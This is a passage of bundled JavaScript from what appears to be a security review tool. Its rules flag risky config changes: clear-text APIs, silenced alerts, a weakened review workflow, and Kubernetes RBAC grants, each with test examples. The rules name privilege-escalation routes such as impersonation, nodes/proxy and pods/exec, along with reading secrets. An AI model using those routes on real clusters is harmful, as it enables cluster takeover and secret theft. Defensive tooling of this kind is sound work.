        message: (c) => `\`${c.operation}\` was open to everybody, and now asks for \`${c.to}\`.`,
        why: "Strangers stay out, and so do clients without credentials.",
        equivalents: ["oasdiff:api-security-added", "oasdiff:api-global-security-added"]
      },
      "security-tightened": {
        risk: "medium",
        message: changed3,
        equivalents: ["oasdiff:api-security-removed", "oasdiff:api-security-scope-added"]
      },
      "scheme-changed": {
        risk: "medium",
        message: (c) => `The scheme \`${c.element}\` goes from \`${c.from}\` to \`${c.to}\`.`,
        equivalents: ["oasdiff:api-security-component-type-changed"]
      }
    },
    examples: [
      { before: secured(""), after: secured(LOGIN), outcome: "security-required" },
      {
        before: secured(LOGIN),
        after: secured("security: [{ login: [admin, read, write] }]"),
        outcome: "security-tightened"
      },
      { before: scheme(HEADER), after: scheme("{ type: http, scheme: bearer }"), outcome: "scheme-changed" },
      { before: secured(""), after: secured("security: [{}]"), outcome: "none" }
    ],
    classify: among3("security-required", "security-tightened", "scheme-changed")
  }),
  configRule({
    id: "config/api-server-plain",
    on: "api-changed",
    class: "encryption-disabled",
    title: "API served in clear text",
    why: "Requests, credentials included, cross the network in clear text.",
    fix: "Keep `https`.",
    equivalents: ["checkov:CKV_OPENAPI_7", "checkov:CKV_OPENAPI_18"],
    outcomes: {
      plain: { risk: "high", message: (c) => `The address of the API goes from \`${c.from}\` to \`${c.to}\`.` }
    },
    examples: [
      { before: server("https://api.example.com"), after: server("http://api.example.com"), outcome: "plain" },
      { before: server("https://api.example.com"), after: server("http://localhost:8080"), outcome: "none" },
      { before: server("http://api.example.com"), after: server("https://api.example.com"), outcome: "none" }
    ],
    classify: ({ what }) => what === "server-plain" ? "plain" : void 0
  })
];

// src/domains/config/rules/own/settings.ts
var path12 = ".github/breakwater.yml";
var before = "version: 1\nfail-on: high\n";
var MOST_NAMED3 = 3;
function shown3({ how, values: values3 }) {
  if (values3.length === 0) return "";
  const more2 = values3.length > MOST_NAMED3 ? ` and ${values3.length - MOST_NAMED3} more` : "";
  const names2 = values3.slice(0, MOST_NAMED3).map((value) => `\`${value}\``);
  return ` ${names2.join(how === "goes from" ? " to " : ", ")}${more2}`;
}
var settings_default2 = configRule({
  id: "config/review-settings-changed",
  on: "review-settings-changed",
  class: "permission-widening",
  title: "Settings of Breakwater changed",
  why: "This review still follows the settings of the base; the new ones decide for every change after the merge.",
  fix: "Have the owners of the review agree.",
  outcomes: {
    loosened: { risk: "medium", message: (c) => `The settings let more through: \`${c.name}\` ${c.how}${shown3(c)}.` },
    removed: {
      risk: "medium",
      message: () => "The settings of Breakwater are gone: the defaults take their place."
    },
    edited: { risk: "low", message: () => "The settings of Breakwater change." },
    new: { risk: "info", message: () => "Settings of Breakwater are new.", fix: "Nothing to do." }
  },
  examples: [
    { path: path12, before, after: "version: 1\nfail-on: never\n", outcome: "loosened" },
    { path: path12, before, after: `${before}paths: { ignore: ["**"] }
`, outcome: "loosened" },
    { path: path12, before, after: "", outcome: "removed" },
    { path: path12, before, after: "version: 1\nfail-on: medium\n", outcome: "edited" },
    { path: path12, before: "", after: before, outcome: "new" },
    { path: path12, before, after: `# Ours.
${before}`, outcome: "none" },
    { path: path12, before, after: 'fail-on: "high"\nversion: 1\n', outcome: "none" }
  ],
  classify: ({ way }) => way
});

// src/domains/config/rules/own/workflow.ts
var path13 = ".github/workflows/review.yml";
var review = (job4 = "", on3 = "pull_request: { types: [opened, synchronize] }", step2 = "") => `on:
  ${on3}
jobs:
  review:
    runs-on: ubuntu-latest
${job4}    steps:
      - uses: acme/breakwater@v1
${step2}`;
var before2 = review();
var input = (value) => review("", void 0, `        with: { fail-on: ${value} }
`);
var workflow_default = configRule({
  id: "config/review-weakened",
  on: "review-weakened",
  class: "permission-widening",
  title: "Review by Breakwater weakened",
  why: "From here on changes may be merged that nobody was warned of.",
  fix: "Put it back, or have the owners of the review agree.",
  outcomes: {
    gone: {
      risk: "high",
      message: (c) => `The job \`${c.job}\`, which runs Breakwater, is gone from the workflow.`
    },
    untriggered: {
      risk: "high",
      message: (c) => `The workflow that runs Breakwater no longer starts on \`${c.value}\`.`
    },
    skipped: {
      risk: "high",
      message: (c) => `Breakwater now runs only if \`${c.value}\`.`,
      why: "A skipped job counts as passed, so what the condition skips is merged without a review.",
      fix: "Take the condition out; Breakwater passes at once where nothing concerns it."
    },
    ignored: {
      risk: "high",
      message: (c) => `\`continue-on-error\` is now set where \`${c.job}\` runs Breakwater.`,
      why: "The job turns green although Breakwater blocks, and the required check lets the merge through.",
      fix: "Take it out; set `fail-on` in the settings where it blocks too much."
    },
    toothless: {
      risk: "high",
      message: () => "Breakwater now runs with `fail-on: never`.",
      why: "Whatever it finds, the job stays green and the required check lets the merge through.",
      fix: "Take the input out; the settings of the base then decide."
    },
    filtered: {
      risk: "medium",
      message: (c) => `The workflow that runs Breakwater now has a \`${c.value}\` filter.`,
      why: "Pull requests outside the filter get no review, and as a required check they wait for it for ever.",
      fix: "Take the filter out; leave files out under `paths.ignore` in the settings."
    },
    edited: {
      risk: "low",
      message: (c) => `The job \`${c.job}\`, which runs Breakwater, changes.`,
      why: "It decides how every later change is reviewed.",
      fix: "Check that it still runs on every pull request, and that its failure counts."
    }
  },
  examples: [
    { path: path13, before: before2, after: before2.replace("acme/breakwater@v1", "acme/other@v1"), outcome: "gone" },
    { path: path13, before: before2, after: "", outcome: "gone" },
    { path: path13, before: before2, after: review("", "push:"), outcome: "untriggered" },
    { path: path13, before: before2, after: review("    if: github.actor == 'octocat'\n"), outcome: "skipped" },
    { path: path13, before: before2, after: review("    continue-on-error: true\n"), outcome: "ignored" },
    { path: path13, before: input("high"), after: input("never"), outcome: "toothless" },
    { path: path13, before: before2, after: review("", "pull_request: { paths: [src/**] }"), outcome: "filtered" },
    { path: path13, before: before2, after: review("    timeout-minutes: 5\n"), outcome: "edited" },
    { path: path13, before: before2, after: `${before2}  other:
    runs-on: x
    steps: []
`, outcome: "none" },
    { path: path13, before: before2, after: `# Reviews.
${before2}`, outcome: "none" },
    { path: path13, before: "", after: before2, outcome: "none" },
    { path: path13, before: before2, after: review("    if: always()\n"), outcome: "edited" },
    {
      before: { [path13]: before2, ".github/workflows/ci.yml": "on: push\njobs: {}\n" },
      after: { ".github/workflows/ci.yml": before2 },
      outcome: "none"
    }
  ],
  classify: ({ way }) => way
});

// src/domains/config/rules/prometheus/alerts.ts
var rules2 = object("monitoring.coreos.com/v1", "PrometheusRule");
var alerts = (list) => rules2(`groups: [{ name: shop, rules: [${list}] }]`);
var DOWN = "{ alert: Down, expr: up == 0, for: 5m }";
var FULL = "{ alert: Full, expr: disk > 0.9 }";
var groups = (...names2) => rules2(`groups: [${names2.map((name) => `{ name: ${name}, rules: [{ alert: ${name}, expr: up }] }`).join(", ")}]`);
var UNITS4 = { s: 1, m: 60, h: 3600, d: 86400, w: 604800 };
var secondsOf2 = (node) => {
  const [, count3, unit = "s"] = node.kind === "scalar" ? /^(\d{1,6})([smhdw])$/.exec(node.text) ?? [] : [];
  return count3 === void 0 ? void 0 : Number(count3) * (UNITS4[unit] ?? 1);
};
var alerts_default = [
  control({
    id: "config/alert-removed",
    class: "observability",
    title: "alert removed",
    why: "Nobody is told any more when it happens.",
    fix: "Keep it until another alert tells the same.",
    governs: ({ keys, path: path27, ownerAfter }) => ownerAfter !== void 0 && path27.at(-1)?.kind === "item" && endsWith(keys, ["groups", "rules"]),
    lostTogether: true,
    rank: (node) => textAt(node, "alert") === void 0 ? void 0 : 1,
    absent: 0,
    outcomes: { drop: { risk: "medium", message: (c) => `The alert ${removal3(c)}.` } },
    examples: [
      { before: alerts(`${DOWN}, ${FULL}`), after: alerts(FULL), outcome: "drop" },
      { before: alerts(FULL), after: alerts(`${DOWN}, ${FULL}`), outcome: "none" },
      { before: alerts(`${DOWN}, ${FULL}`), after: alerts(`${FULL}, ${DOWN}`), outcome: "none" },
      { before: alerts(DOWN), after: "", outcome: "none" }
    ]
  }),
  control({
    id: "config/alert-group-removed",
    class: "observability",
    title: "group of alerts removed",
    why: "Nobody is told any more when any of it happens.",
    fix: "Keep the alerts until others tell the same.",
    governs: ({ keys, path: path27, ownerAfter }) => ownerAfter !== void 0 && path27.at(-1)?.kind === "item" && keys.at(-1) === "groups",
    lostTogether: true,
    rank: (node) => itemsAt(node, "rules").some((rule) => textAt(rule, "alert") !== void 0) ? 1 : void 0,
    absent: 0,
    outcomes: { drop: { risk: "medium", message: (c) => `The group ${removal3(c)}, with its alerts.` } },
    refine: ({ transition }) => transition === "drop" ? "drop" : void 0,
    examples: [
      { before: groups("a", "b"), after: groups("a"), outcome: "drop" },
      { before: groups("a"), after: groups("a", "b"), outcome: "none" },
      { before: groups("a", "b"), after: groups("b", "a"), outcome: "none" }
    ]
  }),
  control({
    id: "config/alert-later",
    class: "observability",
    title: "alert waits longer",
    why: "Somebody is told more than twice as late, or never where it comes and goes.",
    fix: "Keep the time short, and mend what makes the alert flap.",
    governs: ({ keys }) => keys.at(-1) === "for" && keys.at(-2) === "rules",
    rank: (node, { before: before3 }) => {
      const [was, is] = [before3 && secondsOf2(before3), secondsOf2(node)];
      return was === void 0 || is === void 0 ? void 0 : Number(is <= 2 * was);
    },
    outcomes: { flip: moved2("low") },
    refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
    examples: [
      { before: alerts(DOWN), after: alerts(DOWN.replace("5m", "1h")), outcome: "flip" },
      { before: alerts(DOWN), after: alerts(DOWN.replace("5m", "6m")), outcome: "none" },
      { before: alerts(DOWN), after: alerts(DOWN.replace("5m", "300s")), outcome: "none" }
    ]
  }),
  control({
    id: "config/alerts-silenced",
    class: "observability",
    title: "alerts sent to nobody",
    why: "The alert still fires, and no one is told.",
    fix: "Keep a receiver that reaches somebody.",
    governs: ({ keys }) => keys.at(-1) === "receiver" && /^routes?$/.test(keys.at(-2) ?? ""),
    rank: (node) => node.kind === "scalar" ? Number(!/^(?:null|none|blackhole|black-hole|dev-?null|silence)$/i.test(node.text)) : void 0,
    outcomes: { flip: moved2("medium"), hardened: hardened("alerts sent to somebody") },
    refine: ({ transition }) => transition === "flip" || transition === "hardened" ? transition : void 0,
    examples: [
      {
        path: "alertmanager.yml",
        before: "route: { receiver: pager }",
        after: 'route: { receiver: "null" }',
        outcome: "flip"
      },
      {
        path: "alertmanager.yml",
        before: 'route: { receiver: "null" }',
        after: "route: { receiver: pager }",
        outcome: "hardened"
      },
      {
        path: "alertmanager.yml",
        before: "route: { receiver: pager }",
        after: "route: { receiver: chat }",
        outcome: "none"
      }
    ]
  })
];

// src/domains/config/rules/prometheus/monitoring.ts
var monitor = object("monitoring.coreos.com/v1", "ServiceMonitor");
var endpoint2 = (lines) => monitor(`endpoints: [{ port: web${lines} }]`);
var PEERS = /* @__PURE__ */ new Set([
  "endpoints",
  "podMetricsEndpoints",
  "scrape_configs",
  "remote_write",
  "remoteWrite",
  "alertmanagers"
]);
var CREDENTIALS = /* @__PURE__ */ new Set([
  "authorization",
  "basicAuth",
  "basic_auth",
  "bearerTokenFile",
  "bearerTokenSecret",
  "bearer_token_file",
  "oauth2"
]);
var scraping = (...jobs) => `scrape_configs: [${jobs.map((name) => `{ job_name: ${name}, scheme: http }`).join(", ")}]
`;
var monitoring_default = [
  control({
    id: "config/scrape-plain",
    class: "encryption-disabled",
    title: "metrics fetched in clear text",
    why: "Metrics, and credentials sent along, cross the network in clear text.",
    fix: "Keep `https`.",
    governs: ({ keys }) => keys.at(-1) === "scheme" && PEERS.has(keys.at(-2) ?? ""),
    rank: (node) => node.kind === "scalar" ? Number(node.text.toLowerCase() === "https") : void 0,
    absent: 0,
    outcomes: { flip: moved2("high"), drop: moved2("high"), hardened: hardened("metrics fetched over TLS") },
    examples: [
      { before: endpoint2(", scheme: https"), after: endpoint2(", scheme: http"), outcome: "flip" },
      { before: endpoint2(", scheme: https"), after: endpoint2(""), outcome: "drop" },
      { before: endpoint2(""), after: endpoint2(", scheme: https"), outcome: "hardened" },
      { before: endpoint2(""), after: endpoint2(", scheme: http"), outcome: "none" },
      { before: endpoint2(", scheme: https"), after: "", outcome: "none" }
    ]
  }),
  control({
    id: "config/scrape-unauthenticated",
    class: "permission-widening",
    title: "metrics fetched without credentials",
    why: "The target refuses, and its metrics are missing; or it no longer asks, and anybody may read them.",
    fix: "Keep the credentials.",
    governs: ({ keys, ownerAfter }) => ownerAfter !== void 0 && CREDENTIALS.has(keys.at(-1) ?? "") && PEERS.has(keys.at(-2) ?? ""),
    rank: () => 1,
    absent: 0,
    byPresence: true,
    outcomes: { drop: { risk: "medium", message: (c) => `\`${c.name}\` was removed.` } },
    refine: ({ transition }) => transition === "drop" ? "drop" : void 0,
    examples: [
      { before: endpoint2(", basicAuth: { username: a }"), after: endpoint2(""), outcome: "drop" },
      { before: endpoint2(""), after: endpoint2(", basicAuth: { username: a }"), outcome: "none" },
      { before: endpoint2(", basicAuth: { username: a }"), after: "", outcome: "none" }
    ]
  }),
  control({
    id: "config/scrape-removed",
    class: "observability",
    title: "targets no longer watched",
    why: "Their metrics end, and every alert on them falls silent.",
    fix: "Keep the job for as long as its targets run.",
    governs: ({ keys, path: path27, ownerAfter }) => ownerAfter !== void 0 && path27.at(-1)?.kind === "item" && keys.at(-1) === "scrape_configs" || keys.join() === "alerting" && ownerAfter !== void 0 && at(ownerAfter, "scrape_configs") !== void 0,
    rank: () => 1,
    absent: 0,
    outcomes: { drop: { risk: "medium", message: (c) => `\`${c.name}\` was removed.` } },
    refine: ({ transition }) => transition === "drop" ? "drop" : void 0,
    examples: [
      { path: "prometheus.yml", before: scraping("a", "b"), after: scraping("a"), outcome: "drop" },
      {
        path: "prometheus.yml",
        before: `alerting: { alertmanagers: [] , x: 1 }
${scraping("a")}`,
        after: scraping("a"),
        outcome: "drop"
      },
      { path: "prometheus.yml", before: scraping("a"), after: scraping("a", "b"), outcome: "none" }
    ]
  }),
  control({
    id: "config/scrape-labels-trusted",
    class: "observability",
    title: "targets choose their own labels",
    why: "A target can pass its metrics off as those of another, and hide behind them.",
    fix: "Keep `honor_labels` off, but for a gateway that needs it.",
    governs: ({ keys }) => /^honor_?labels$/i.test(keys.at(-1) ?? ""),
    rank: safeOff,
    ...weakWhenSet({
      risk: "low",
      praise: "labels of targets given by Prometheus",
      weak: "honor_labels: true",
      safe: "honor_labels: false",
      path: "prometheus.yml",
      file: (text) => `scrape_configs:
  - job_name: a
${text === "" ? "" : `    ${text}
`}`
    })
  })
];

// src/domains/config/rules/rbac/aggregation.ts
var role3 = (...selectors) => `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: monitoring }
aggregationRule:
  clusterRoleSelectors: [${selectors.map((name) => `{ matchLabels: { ${name}: "true" } }`).join(", ")}]
rules: []
`;
var aggregation_default = [
  control({
    id: "config/role-aggregates-more",
    class: "permission-widening",
    title: "role takes in more roles",
    why: "Every role with such a label, of whoever may create one, adds its rights to this role and all its holders.",
    fix: "Select by a label that only administrators set, or list the rights in the role.",
    dialect: "kubernetes",
    governs: itemOfKind("ClusterRole", "aggregationRule", "clusterRoleSelectors"),
    rank: () => 0,
    absent: 1,
    outcomes: { open: { risk: "medium", message: () => "The role now takes in roles by one more selector." } },
    examples: [
      { before: role3("a"), after: role3("a", "b"), outcome: "open" },
      { before: role3("a", "b"), after: role3("a"), outcome: "none" },
      { before: "", after: role3("a"), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/rbac/bindings.ts
var ACCOUNT = "{ kind: ServiceAccount, name: web, namespace: shop }";
var binding3 = (holders2, role6 = "view", kind = "ClusterRoleBinding") => `apiVersion: rbac.authorization.k8s.io/v1
kind: ${kind}
metadata: { name: web }
subjects:
${holders2.map((holder) => `  - ${holder}`).join("\n")}
roleRef: { kind: ClusterRole, name: ${role6}, apiGroup: rbac.authorization.k8s.io }
`;
var group3 = (name) => `{ kind: Group, name: "${name}" }`;
var BUILT_IN = ["view", "edit", "admin", "cluster-admin"];
var strength = (role6) => BUILT_IN.indexOf(role6.replace(/^ClusterRole\//, ""));
var ADMINS = ["ClusterRole/edit", "ClusterRole/admin", "ClusterRole/cluster-admin"];
var replaced = ({ binding: name, role: role6, holder, instead = "" }) => `\`${name}\` now gives \`${role6}\` to \`${holder}\` instead of \`${instead}\`.`;
var bindings_default = [
  configRule({
    id: "config/binding-holder-added",
    on: "binding-widened",
    class: "permission-widening",
    title: "role given to more",
    why: "The new holder has every right of the role, and so has whoever takes it over.",
    fix: "Bind the role to the single service account that needs it.",
    outcomes: {
      anonymous: {
        risk: "critical",
        title: "role given to everybody",
        message: (c) => `\`${c.binding}\` gives \`${c.role}\` to \`${c.holder}\`.`,
        why: "Whoever reaches the API server has these rights, without signing in."
      },
      masters: {
        risk: "critical",
        message: (c) => `\`${c.binding}\` names \`${c.holder}\`.`,
        why: "Members of this group pass every check, and no binding can take that back."
      },
      broad: {
        risk: "high",
        title: "role given to very many",
        message: (c) => `\`${c.binding}\` gives \`${c.role}\` to \`${c.holder}\`.`,
        why: "This stands for many users or pods, and all of them get the rights of the role."
      },
      admin: { risk: "high", message: (c) => `\`${c.binding}\` gives \`${c.role}\` to \`${c.holder}\`.` },
      single: { risk: "medium", message: (c) => `\`${c.binding}\` now gives \`${c.role}\` to \`${c.holder}\` too.` },
      "admin-replaced": { risk: "medium", title: "role given to another", message: replaced },
      replaced: { risk: "low", title: "role given to another", message: replaced }
    },
    examples: [
      { before: binding3([ACCOUNT]), after: binding3([group3("system:unauthenticated"), ACCOUNT]), outcome: "anonymous" },
      { before: binding3([ACCOUNT]), after: binding3([ACCOUNT, group3("system:masters")]), outcome: "masters" },
      { before: binding3([ACCOUNT]), after: binding3([ACCOUNT, group3("system:authenticated")]), outcome: "broad" },
      { before: "", after: binding3(["{ kind: ServiceAccount, name: default, namespace: shop }"]), outcome: "broad" },
      { before: "", after: binding3([ACCOUNT], "cluster-admin"), outcome: "admin" },
      { before: binding3([ACCOUNT]), after: binding3([ACCOUNT, group3("ops")]), outcome: "single" },
      { before: binding3([ACCOUNT]), after: binding3([group3("ops")]), outcome: "replaced" },
      {
        before: binding3([ACCOUNT], "cluster-admin"),
        after: binding3([group3("ops")], "cluster-admin"),
        outcome: "admin-replaced"
      },
      { before: "", after: binding3([ACCOUNT]), outcome: "none" },
      { before: binding3([ACCOUNT, group3("ops")]), after: binding3([group3("ops"), ACCOUNT]), outcome: "none" }
    ],
    classify: ({ reach: reach4, role: role6, instead, isNew }) => {
      if (reach4 !== "single") return reach4;
      if (ADMINS.includes(role6)) return instead === void 0 ? "admin" : "admin-replaced";
      if (instead !== void 0) return "replaced";
      return isNew ? void 0 : "single";
    }
  }),
  configRule({
    id: "config/binding-role-changed",
    on: "binding-role-changed",
    class: "permission-widening",
    title: "binding gives another role",
    why: "All its holders get the rights of the other role; and the API refuses to change the role of a binding that exists.",
    fix: "Create a second binding, and delete this one when nobody needs it.",
    outcomes: {
      "cluster-admin": { risk: "critical", message: (c) => `\`${c.binding}\` goes from \`${c.from}\` to \`${c.to}\`.` },
      "every-namespace": {
        risk: "high",
        message: (c) => `\`${c.binding}\` gives \`${c.to}\` in every namespace, no longer in its own alone.`,
        why: "All its holders get the rights of the role over the whole cluster.",
        fix: "Bind the role in the namespaces where it is needed."
      },
      raised: { risk: "high", message: (c) => `\`${c.binding}\` goes from \`${c.from}\` to \`${c.to}\`.` },
      other: {
        risk: "high",
        class: "compatibility",
        message: (c) => `\`${c.binding}\` goes from \`${c.from}\` to \`${c.to}\`.`,
        why: "The API refuses to change the role of a binding that exists: the update fails."
      }
    },
    examples: [
      { before: binding3([ACCOUNT]), after: binding3([ACCOUNT], "cluster-admin"), outcome: "cluster-admin" },
      { before: binding3([ACCOUNT]), after: binding3([ACCOUNT], "edit"), outcome: "raised" },
      { before: binding3([ACCOUNT], "view", "RoleBinding"), after: binding3([ACCOUNT]), outcome: "every-namespace" },
      { before: binding3([ACCOUNT], "edit"), after: binding3([ACCOUNT], "view"), outcome: "other" },
      { before: binding3([ACCOUNT]), after: binding3([ACCOUNT], "reader"), outcome: "other" },
      { before: "", after: binding3([ACCOUNT]), outcome: "none" }
    ],
    equivalents: ["kube-linter:cluster-admin-role-binding"],
    classify: ({ from: from3, to, reachesCluster, isSameObject }) => {
      if (to === "ClusterRole/cluster-admin") return "cluster-admin";
      if (reachesCluster) return "every-namespace";
      if (strength(to) > strength(from3)) return "raised";
      return isSameObject ? "other" : void 0;
    }
  }),
  configRule({
    id: "config/binding-narrowed",
    on: "binding-narrowed",
    class: "hardening",
    title: "role given to fewer",
    why: "Fewer accounts can do harm with the role.",
    fix: "Check that nobody who was removed still needs it.",
    outcomes: {
      narrowed: { risk: "info", message: (c) => `\`${c.binding}\` names ${c.lost} fewer, and nobody new.` }
    },
    examples: [
      { before: binding3([ACCOUNT, group3("ops")]), after: binding3([ACCOUNT]), outcome: "narrowed" },
      { before: binding3([ACCOUNT]), after: binding3([ACCOUNT, group3("ops")]), outcome: "none" }
    ],
    classify: () => "narrowed"
  })
];

// src/domains/config/kubernetes/power-rule.ts
var HARMLESS = 'apiGroups: [""], resources: [configmaps], resourceNames: [own], verbs: [get]';
var role4 = (kind, ...rules4) => `apiVersion: rbac.authorization.k8s.io/v1
kind: ${kind}
metadata: { name: app }
rules:
${rules4.map((rule) => `  - { ${rule} }`).join("\n")}
`;
var powerRule = ({ id, power, cluster: cluster2, namespace: namespace2, grant, ...words2 }) => configRule({
  id: `config/role-${id}`,
  on: "role-widened",
  class: "permission-widening",
  ...words2,
  outcomes: {
    "cluster-wide": { risk: cluster2, message: (c) => `${said4(c)}${reachOf3(c)}.` },
    "in-namespace": { risk: namespace2, message: (c) => `${said4(c)} in its namespace.` }
  },
  examples: [
    { before: role4("ClusterRole", HARMLESS), after: role4("ClusterRole", HARMLESS, grant), outcome: "cluster-wide" },
    { before: role4("Role", HARMLESS), after: role4("Role", grant, HARMLESS), outcome: "in-namespace" },
    { before: "", after: role4("ClusterRole", grant), outcome: "cluster-wide" },
    { before: role4("ClusterRole", HARMLESS, grant), after: role4("ClusterRole", grant, HARMLESS), outcome: "none" },
    { before: role4("ClusterRole", HARMLESS, grant), after: role4("ClusterRole", HARMLESS), outcome: "none" }
  ],
  classify: (change) => {
    if (change.power !== power) return void 0;
    return change.clusterWide ? "cluster-wide" : "in-namespace";
  }
});
function said4({ role: name, isNew, verb, object: object2, gained, ...grant }) {
  const may = isNew ? `The new \`${name}\` may` : `\`${name}\` may now`;
  const bound = object2 === void 0 ? "" : ` named \`${object2}\``;
  const more2 = gained > 1 ? ` (and ${gained - 1} more)` : "";
  return `${may} ${verb === "*" ? "do everything to" : `\`${verb}\``} ${objects(grant)}${bound}${more2}`;
}
function objects({ apiGroup, resource: resource3, power }) {
  if (power === "url") return `\`${resource3}\``;
  if (resource3 === "*") {
    if (apiGroup === "*") return "every resource";
    return apiGroup === "" ? "every core resource" : `every resource of \`${apiGroup}\``;
  }
  if (apiGroup === "*") return `\`${resource3}\` of every API group`;
  return `\`${resource3}${apiGroup === "" ? "" : `.${apiGroup}`}\``;
}
function reachOf3({ apiGroup, resource: resource3, power }) {
  if (power === "url") return " of the API server";
  return resource3 === "*" || isClusterScoped(apiGroup, resource3) ? ", cluster-wide" : " in every namespace";
}

// src/domains/config/rules/rbac/role-escalations.ts
var LEAST = "Grant only the verbs and resources the holder uses.";
var role_escalations_default = [
  powerRule({
    id: "everything",
    power: "everything",
    title: "role may do everything",
    why: "Whoever holds the role, or takes over a pod that does, owns the cluster.",
    fix: LEAST,
    cluster: "critical",
    namespace: "high",
    equivalents: ["checkov:CKV_K8S_49", "kube-linter:wildcard-in-rules"],
    grant: 'apiGroups: ["*"], resources: ["*"], verbs: ["*"]'
  }),
  powerRule({
    id: "escalation",
    power: "escalate-roles",
    title: "role may raise itself",
    why: "With `escalate` or `bind` the holder gives itself any right, past the check that stops others.",
    fix: "Take `escalate` and `bind` out; create the roles it needs beforehand.",
    cluster: "critical",
    namespace: "high",
    equivalents: ["checkov:CKV_K8S_157", "checkov:CKV_K8S_158"],
    grant: "apiGroups: [rbac.authorization.k8s.io], resources: [clusterroles], verbs: [bind]"
  }),
  powerRule({
    id: "impersonation",
    power: "impersonate",
    title: "role may act as others",
    why: "The holder can take on the rights of any user, group or service account it may impersonate.",
    fix: "Remove `impersonate`, or bind it to the names needed with `resourceNames`.",
    cluster: "critical",
    namespace: "high",
    equivalents: ["checkov:CKV2_K8S_3"],
    grant: 'apiGroups: [""], resources: [users], verbs: [impersonate]'
  }),
  powerRule({
    id: "approve-certificates",
    power: "approve-certificates",
    title: "role may approve certificates",
    why: "The holder can have a certificate signed for any user, cluster administrators included.",
    fix: "Leave approval to the controller that owns the signer.",
    cluster: "critical",
    namespace: "high",
    equivalents: ["checkov:CKV_K8S_156"],
    grant: "apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests/approval], verbs: [update]"
  }),
  powerRule({
    id: "proxy-nodes",
    power: "proxy-nodes",
    title: "role may reach the kubelet of every node",
    why: "Through `nodes/proxy` the holder runs commands in any pod, past admission and audit.",
    fix: "Grant `nodes/metrics` or `nodes/stats` where only figures are read.",
    cluster: "critical",
    namespace: "high",
    equivalents: ["checkov:CKV2_K8S_2"],
    grant: 'apiGroups: [""], resources: [nodes/proxy], verbs: [get]'
  }),
  powerRule({
    id: "write-roles",
    power: "write-roles",
    title: "role may write roles and bindings",
    why: "The holder can hand out all rights that it has, and change who holds what.",
    fix: "Leave roles and bindings to the deployment; grant the holder the rights themselves.",
    cluster: "high",
    namespace: "high",
    grant: "apiGroups: [rbac.authorization.k8s.io], resources: [rolebindings], verbs: [create]"
  }),
  powerRule({
    id: "create-tokens",
    power: "create-tokens",
    title: "role may create tokens of service accounts",
    why: "The holder can act as any service account it may create a token for.",
    fix: "Bind the rule to the service accounts needed with `resourceNames`.",
    cluster: "high",
    namespace: "high",
    grant: 'apiGroups: [""], resources: [serviceaccounts/token], verbs: [create]'
  }),
  powerRule({
    id: "run-pods",
    power: "run-pods",
    title: "role may run pods",
    why: "Whoever starts pods chooses their image, service account and volumes, and so reaches all secrets of the namespace.",
    fix: LEAST,
    cluster: "high",
    namespace: "high",
    equivalents: ["kube-linter:access-to-create-pods"],
    grant: "apiGroups: [apps], resources: [deployments], verbs: [create]"
  }),
  powerRule({
    id: "enter-pods",
    power: "enter-pods",
    title: "role may enter running pods",
    why: "The holder runs commands in pods or reaches their ports, and reads whatever secrets they hold.",
    fix: "Remove the subresource; give people a way in that ends by itself.",
    cluster: "high",
    namespace: "high",
    equivalents: ["checkov:CKV2_K8S_2"],
    grant: 'apiGroups: [""], resources: [pods/exec], verbs: [create]'
  }),
  powerRule({
    id: "proxy-pods",
    power: "proxy-pods",
    title: "role may reach pods through the API server",
    why: "Requests through the proxy pass network policies and arrive as the API server.",
    fix: "Let the holder call the Service itself.",
    cluster: "high",
    namespace: "high",
    grant: 'apiGroups: [""], resources: [services/proxy], verbs: [get]'
  })
];

// src/domains/config/rules/rbac/role-grants.ts
var LEAST2 = "Grant only the verbs and resources the holder uses.";
var role_grants_default = [
  powerRule({
    id: "read-everything",
    power: "read-everything",
    title: "role may read everything",
    why: "All resources include secrets: the holder reads every password and token, today\u2019s and tomorrow\u2019s.",
    fix: "List the resources the holder reads.",
    cluster: "critical",
    namespace: "high",
    equivalents: ["checkov:CKV2_K8S_5", "kube-linter:access-to-secrets", "kube-linter:wildcard-in-rules"],
    grant: 'apiGroups: [""], resources: ["*"], verbs: [list]'
  }),
  powerRule({
    id: "read-secrets",
    power: "read-secrets",
    title: "role may read secrets",
    why: "The holder reads passwords and tokens, those of service accounts included; `list` and `watch` show them like `get`.",
    fix: "Name the secrets with `resourceNames`, or mount them into the pod that needs them.",
    cluster: "critical",
    namespace: "high",
    equivalents: ["checkov:CKV2_K8S_5", "kube-linter:access-to-secrets"],
    grant: 'apiGroups: [""], resources: [secrets], verbs: [get]'
  }),
  powerRule({
    id: "write-secrets",
    power: "write-secrets",
    title: "role may write secrets",
    why: "The holder can replace certificates and passwords that others trust, or create a token of any service account.",
    fix: "Name the secrets with `resourceNames`.",
    cluster: "high",
    namespace: "high",
    grant: 'apiGroups: [""], resources: [secrets], verbs: [update]'
  }),
  powerRule({
    id: "write-admission",
    power: "write-admission",
    title: "role may write admission webhooks",
    why: "A webhook sees and changes every object sent to the API server, secrets included, and can switch other checks off.",
    fix: "Bind the rule to the one configuration it maintains with `resourceNames`.",
    cluster: "high",
    namespace: "high",
    equivalents: ["checkov:CKV_K8S_155"],
    grant: "apiGroups: [admissionregistration.k8s.io], resources: [mutatingwebhookconfigurations], verbs: [patch]"
  }),
  powerRule({
    id: "write-apis",
    power: "write-apis",
    title: "role may write API definitions",
    why: "Deleting a definition deletes all its objects, and an API service answers in the place of the API server.",
    fix: "Bind the rule to the definitions it maintains with `resourceNames`.",
    cluster: "high",
    namespace: "high",
    grant: "apiGroups: [apiextensions.k8s.io], resources: [customresourcedefinitions], verbs: [delete]"
  }),
  powerRule({
    id: "write-volumes",
    power: "write-volumes",
    title: "role may create volumes",
    why: "A persistent volume may be a directory of the node, which a pod then mounts past pod security.",
    fix: "Leave volumes to a provisioner.",
    cluster: "high",
    namespace: "high",
    grant: 'apiGroups: [""], resources: [persistentvolumes], verbs: [create]'
  }),
  powerRule({
    id: "write-nodes",
    power: "write-nodes",
    title: "role may change nodes",
    why: "Labels and taints of nodes decide where pods run: the holder can draw them to a node it controls.",
    fix: LEAST2,
    cluster: "high",
    namespace: "medium",
    grant: 'apiGroups: [""], resources: [nodes], verbs: [patch]'
  }),
  powerRule({
    id: "wildcard",
    power: "wildcard",
    title: "role has a new wildcard",
    why: "The wildcard also covers what does not exist yet.",
    fix: "List what the holder uses.",
    cluster: "high",
    namespace: "medium",
